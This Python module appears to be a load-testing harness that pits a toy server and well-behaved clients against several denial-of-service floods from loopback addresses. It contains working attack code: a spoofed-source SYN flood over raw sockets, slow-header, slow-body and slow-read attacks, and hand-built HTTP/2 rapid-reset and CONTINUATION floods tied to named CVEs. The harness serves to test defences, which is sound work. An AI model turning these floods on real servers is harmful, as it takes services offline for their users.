"""Floods from many loopback addresses, clients who behave, and an application that has only so much to give.

Each part is a process of its own, so that none waits for another one's interpreter:

    python -m harness.flood application 20 4 [ADDRESS]     a server: 20 ms for a request, 4 at a time; it says its port
    python -m harness.flood good PORT SECONDS              20 clients with 2 requests a second each; says how many were answered
    python -m harness.flood steady PORT SCHEME             the same, until it is killed; says of each request when it began, and
                                                           its status
    python -m harness.flood KIND PORT SECONDS [EACH PACE]  an attack (see KINDS) by 200 addresses with so many connections each,
                                                           and after one has ended, so many seconds until the next; says when it
                                                           begins, and at the end how many whole requests it made, and how
                                                           many were answered

Attacks are limited in what they do, so that they show how others are defended, and not how much the processor can do.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Coroutine
from pathlib import Path
from typing import Any

from . import network

HOST = "shop"
GOOD = [f"127.2.{number}.7" for number in range(20)]
BAD = [f"127.1.{number}.7" for number in range(200)]
#: How long a client that behaves waits for an answer, in seconds.
PATIENCE = 3.0
#: Packets a second.
SYN_RATE = 5000
RATE = 2.0
BODY = b"x" * 1000


def request(path: str = "/", agent: str = "Mozilla/5.0", more: bytes = b"") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: {agent}\r\n".encode() + more + b"\r\n"


def length(head: bytes) -> int:
    return int(head.lower().partition(b"content-length:")[2].split(b"\r\n")[0] or 0)


# The application


async def application(milliseconds: float, workers: int, address: str = "127.0.0.1") -> None:
    room = asyncio.Semaphore(workers)

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                await reader.readexactly(length(head))
                big = head.startswith(b"GET /big")
                async with room:
                    await asyncio.sleep(milliseconds / 1000)
                body = BODY * (2000 if big else 1)
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
                await writer.drain()
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(serve, address, 0, backlog=1000)
    print(server.sockets[0].getsockname()[1], flush=True)
    await server.serve_forever()


# Those who behave


def encrypted(*protocols: str) -> ssl.SSLContext:
    """It takes any certificate."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(protocols)
    return context


async def ask(port: int, address: str, data: bytes, context: ssl.SSLContext | None = None) -> int:
    """Asks once, on a connection of its own, and returns the status; 0: there was none."""
    writer = None
    try:
        async with asyncio.timeout(PATIENCE):
            name = HOST if context else None
            place = asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0), ssl=context, server_hostname=name)
            reader, writer = await place
            writer.write(data)
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(length(head))
            return int(head.split(b" ")[1])
    except (OSError, TimeoutError, ValueError, IndexError, asyncio.IncompleteReadError):
        return 0
    finally:
        if writer:
            writer.close()


async def good(port: int, seconds: float) -> None:
    """Says how many requests were made, and what became of them."""
    begin = time.monotonic()
    results: dict[int, int] = {}
    waits: list[float] = []

    async def one(address: str, at: float) -> None:
        await asyncio.sleep(max(0, begin + at - time.monotonic()))
        since = time.monotonic()
        status = await ask(port, address, request("/products"))
        results[status] = results.get(status, 0) + 1
        if status == 200:
            waits.append(time.monotonic() - since)

    tasks = [
        asyncio.create_task(one(address, turn / RATE + index / len(GOOD) / RATE))
        for index, address in enumerate(GOOD)
        for turn in range(int(seconds * RATE))
    ]
    await asyncio.gather(*tasks)
    waits.sort()
    median = waits[len(waits) // 2] if waits else None
    print(json.dumps({"asked": len(tasks), "answered": results.get(200, 0), "results": results, "median": median}))


async def steady(port: int, scheme: str) -> None:
    """As many as before, for ever; each is told of when it is over."""
    context = encrypted("http/1.1") if scheme == "https" else None

    async def one(address: str) -> None:
        since = time.monotonic()
        status = await ask(port, address, request("/products"), context)
        print(since, status, flush=True)

    async def client(index: int) -> None:
        at = time.monotonic() + index / len(GOOD) / RATE
        asked: set[asyncio.Task[None]] = set()
        while True:
            await asyncio.sleep(max(0, at - time.monotonic()))
            at += 1 / RATE
            task = asyncio.create_task(one(GOOD[index]))
            asked.add(task)
            task.add_done_callback(asked.discard)

    await asyncio.gather(*(client(index) for index in range(len(GOOD))))


# Attacks

#: Of all attackers together.
told = {"asked": 0, "answered": 0}


async def forever(
    once: Callable[[str], Coroutine[Any, Any, None]], seconds: float, each: int = 1, pace: float | None = None
) -> None:
    """Does something from each address, again and again."""
    end = time.monotonic() + seconds

    async def loop(address: str, at: float) -> None:
        await asyncio.sleep(at)
        while time.monotonic() < end:
            try:
                async with asyncio.timeout(max(0.01, end - time.monotonic())):
                    await once(address)
                    await asyncio.sleep(pace or 0)
            except (OSError, TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
                await asyncio.sleep(min(pace or 0.05, max(0, end - time.monotonic())))

    await asyncio.gather(
        *(loop(address, (pace or 1) * (index / len(BAD) + turn) / each) for index, address in enumerate(BAD) for turn in range(each))
    )


async def syn(port: int, seconds: float) -> None:
    """Packets that ask for connections, from addresses that are nobody's. It has to be in a network of its own."""
    begin = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while (passed := time.monotonic() - begin) < seconds:
            while told["asked"] < passed * SYN_RATE:
                number = told["asked"]
                source = f"198.{18 + (number >> 16) % 2}.{(number >> 8) % 256}.{number % 256}"
                raw.sendto(network.syn(source, network.HERE, port, number), (network.HERE, 0))
                told["asked"] += 1
            await asyncio.sleep(0.01)


async def requests(port: int, address: str) -> None:
    """Ten requests a second on a connection that is kept as long as the other side keeps it."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
    try:
        while True:
            writer.write(request("/search", "bot/1.0"))
            told["asked"] += 1
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(length(head))
            told["answered"] += head.startswith(b"HTTP/1.1 200")
            await asyncio.sleep(0.1)
    finally:
        writer.close()


async def slow_heads(port: int, address: str) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
    try:
        writer.write(f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode())
        for number in range(1000):
            writer.write(f"X-{number}: 1\r\n".encode())
            await writer.drain()
            if reader.at_eof():
                return
            await asyncio.sleep(1)
    finally:
        writer.close()


async def slow_bodies(port: int, address: str) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0))
    try:
        writer.write(f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n".encode())
        for _ in range(1000):
            writer.write(b"x")
            await writer.drain()
            if reader.at_eof():
                return
            await asyncio.sleep(1)
    finally:
        writer.close()


async def slow_reads(port: int, address: str) -> None:
    """Wants much, and takes hardly anything of it."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address, 0), limit=1024)
    try:
        writer.write(request("/big", "bot/1.0"))
        while await reader.read(64):
            await asyncio.sleep(1)
    finally:
        writer.close()


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def frames(port: int, address: str, of: Callable[[int], bytes]) -> None:
    """Sends frames of HTTP/2, fifty times a second, until the other side has enough."""
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", port, local_addr=(address, 0), ssl=encrypted("h2"), server_hostname=HOST
    )
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(4, 1, 0, b""))
        for turn in range(1000):
            writer.write(of(turn))
            await writer.drain()
            if reader.at_eof():
                return
            await asyncio.sleep(0.02)
    finally:
        writer.close()


# :method GET, :scheme https, :path /, :authority
HEAD = b"\x82\x87\x84\x41" + bytes([len(HOST)]) + HOST.encode()


async def resets(port: int, address: str) -> None:
    """Opens streams and resets each at once (CVE-2023-44487)."""

    def of(turn: int) -> bytes:
        streams = range(1 + 40 * turn, 41 + 40 * turn, 2)
        return b"".join(frame(1, 5, s, HEAD) + frame(3, 0, s, b"\0\0\0\x08") for s in streams)

    await frames(port, address, of)


async def continuations(port: int, address: str) -> None:
    """A head that does not end (CVE-2024-27983 and others)."""

    def of(turn: int) -> bytes:
        # Literals that are not kept: a name of one letter, a value of a hundred.
        piece = frame(9, 0, 1, (b"\x00\x01a\x64" + b"b" * 100) * 20)
        return (frame(1, 1, 1, HEAD) if turn == 0 else b"") + piece * 2

    await frames(port, address, of)


KINDS = {
    "requests": requests, "slow-heads": slow_heads, "slow-bodies": slow_bodies, "slow-reads": slow_reads,
    "resets": resets, "continuations": continuations,
}  # fmt: skip


# From tests


#: `python -m harness.flood` without all else that the harness imports, which takes longer than some floods.
ALONE = """
import runpy, sys, types
package = sys.modules["harness"] = types.ModuleType("harness")
package.__path__ = ["harness"]
runpy.run_module("harness.flood", run_name="__main__")
"""


def start(*arguments: object) -> subprocess.Popen[str]:
    """One of these programs."""
    return subprocess.Popen(
        ["setpriv", "--pdeathsig", "KILL", sys.executable, "-c", ALONE, *map(str, arguments)],
        stdout=subprocess.PIPE, text=True, cwd=Path(__file__).parents[1], env=os.environ,
    )  # fmt: skip


def goodput(port: int, seconds: float) -> dict[str, Any]:
    """What those who behave get within some time."""
    with start("good", port, seconds) as process:
        assert process.stdout
        return dict(json.loads(process.stdout.read()))


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["application", milliseconds, workers, *address]:
            asyncio.run(application(float(milliseconds), int(workers), *address))
        case ["good", port, seconds]:
            asyncio.run(good(int(port), float(seconds)))
        case ["steady", port, scheme]:
            asyncio.run(steady(int(port), scheme))
        case ["syn", port, seconds, *_]:
            print(time.monotonic(), flush=True)
            asyncio.run(syn(int(port), float(seconds)))
            print(json.dumps(told))
        case [kind, port, seconds, *more]:
            attack = KINDS[kind]
            each, pace = (int(more[0]), float(more[1])) if more else (1, None)
            print(time.monotonic(), flush=True)
            asyncio.run(forever(lambda address: attack(int(port), address), float(seconds), each, pace))
            print(json.dumps(told))
